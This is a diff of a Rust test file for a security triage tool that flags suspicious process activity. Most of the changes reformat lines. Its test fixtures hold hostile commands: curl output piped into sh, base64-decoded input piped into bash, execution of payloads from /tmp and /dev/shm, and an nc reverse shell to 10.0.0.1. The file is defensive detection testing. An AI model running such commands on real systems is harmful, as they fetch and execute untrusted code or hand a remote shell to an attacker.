@@ -43,7 +43,9 @@ fn exec_file(filename: &str) -> String {
 }
 
 fn file(kind: &str, path: &str, path2: Option<&str>) -> String {
-    let p2 = path2.map(|p| format!(r#","path2":"{p}""#)).unwrap_or_default();
+    let p2 = path2
+        .map(|p| format!(r#","path2":"{p}""#))
+        .unwrap_or_default();
     format!(r#""kind":"{kind}","pid":7,"path":"{path}"{p2},"result":"ok","count":1"#)
 }
 
@@ -57,20 +59,43 @@ fn session(events: &[String]) -> Vec<Record> {
 }
 
 fn ids(records: &[Record]) -> Vec<&'static str> {
-    triage(records).findings.iter().map(|f| f.detection).collect()
+    triage(records)
+        .findings
+        .iter()
+        .map(|f| f.detection)
+        .collect()
 }
 
 #[test]
 fn ordinary_work_finds_nothing() {
     let mut events = vec![
         exec(&["cargo", "build"]),
-        open("/usr/lib/x86_64-linux-gnu/libc.so.6", "O_RDONLY|O_CLOEXEC", "ok"),
+        open(
+            "/usr/lib/x86_64-linux-gnu/libc.so.6",
+            "O_RDONLY|O_CLOEXEC",
+            "ok",
+        ),
         open("/home/u/.cargo/registry/index/x", "O_RDONLY", "ok"),
         open("/home/u/.gitconfig", "O_RDONLY", "ok"),
+        // npm reads its own login; a tool looks whether a key is there without reading it.
+        open("/home/u/.npmrc", "O_RDONLY", "ok"),
+        open("/home/u/.ssh/id_ed25519", "O_RDONLY|O_PATH", "ok"),
         open("/home/u/src/app/src/main.rs", "O_RDONLY", "ok"),
-        open("/home/u/src/app/target/debug/app", "O_WRONLY|O_CREAT|O_TRUNC", "ok"),
-        open("/home/u/src/app/.git/objects/ab/cd", "O_WRONLY|O_CREAT", "ok"),
-        open("/home/u/src/app/.git/hooks/pre-commit.sample", "O_RDONLY", "ok"),
+        open(
+            "/home/u/src/app/target/debug/app",
+            "O_WRONLY|O_CREAT|O_TRUNC",
+            "ok",
+        ),
+        open(
+            "/home/u/src/app/.git/objects/ab/cd",
+            "O_WRONLY|O_CREAT",
+            "ok",
+        ),
+        open(
+            "/home/u/src/app/.git/hooks/pre-commit.sample",
+            "O_RDONLY",
+            "ok",
+        ),
         exec(&["git", "commit", "-m", "fix"]),
         exec(&["sh", "-c", "cargo test 2>&1 | tail -5"]),
         exec(&["curl", "-sSf", "https://crates.io/api/v1/crates/serde"]),
@@ -78,7 +103,11 @@ fn ordinary_work_finds_nothing() {
     ];
     // A clean build removes its own files: many, but fewer than a wipe.
     for i in 0..150 {
-        events.push(file("file.unlink", &format!("/home/u/src/app/target/{i}.o"), None));
+        events.push(file(
+            "file.unlink",
+            &format!("/home/u/src/app/target/{i}.o"),
+            None,
+        ));
     }
     assert_eq!(ids(&session(&events)), Vec::<&str>::new());
 }
@@ -120,6 +149,10 @@ fn each_attack_finds_its_detection() {
         (vec![exec(&["sh", "-c", "curl -s https://x.test/i | sh"])], "download-and-execute"),
         (vec![exec(&["bash", "-c", "echo aGk= | base64 -d | bash"])], "download-and-execute"),
         (vec![exec_file("/tmp/payload")], "download-and-execute"),
+        (
+            vec![r#""kind":"exec.request","pid":9,"syscall":"execve","filename":"/usr/bin/sh","program":"sh","argv":["sh","-c","curl -s https://x.test/i | sh"],"verdict":"deny","source":"policy","wait_us":1"#.to_string()],
+            "download-and-execute",
+        ),
         (vec![exec_file("/dev/shm/x")], "download-and-execute"),
         (vec![exec(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])], "network-tools"),
         (
@@ -177,17 +210,30 @@ fn a_finding_has_its_techniques_evidence_and_an_escaped_narrative() {
     let report = triage(&records);
     assert_eq!(report.session, "s1");
     let f = &report.findings;
-    assert_eq!(f[0].detection, "persistence-authorized-keys", "most severe first");
+    assert_eq!(
+        f[0].detection, "persistence-authorized-keys",
+        "most severe first"
+    );
     assert_eq!(f[0].severity, Severity::Critical);
-    let creds = f.iter().find(|f| f.detection == "credential-files-read").unwrap();
+    let creds = f
+        .iter()
+        .find(|f| f.detection == "credential-files-read")
+        .unwrap();
     assert_eq!(creds.techniques, &["T1552.001", "T1552.004"]);
     assert_eq!(creds.count, 3);
     assert_eq!(
         creds.evidence,
         vec![warden_triage::SeqRange { first: 2, last: 4 }]
     );
-    assert!(creds.narrative.contains("first at seq 2"), "{}", creds.narrative);
+    assert!(
+        creds.narrative.contains("first at seq 2"),
+        "{}",
+        creds.narrative
+    );
     let text = warden_triage::text(&report);
-    assert!(!text.contains('\u{1b}'), "escape sequences reach the terminal: {text}");
+    assert!(
+        !text.contains('\u{1b}'),
+        "escape sequences reach the terminal: {text}"
+    );
     assert!(text.contains("evidence: seq 2-4"), "{text}");
 }
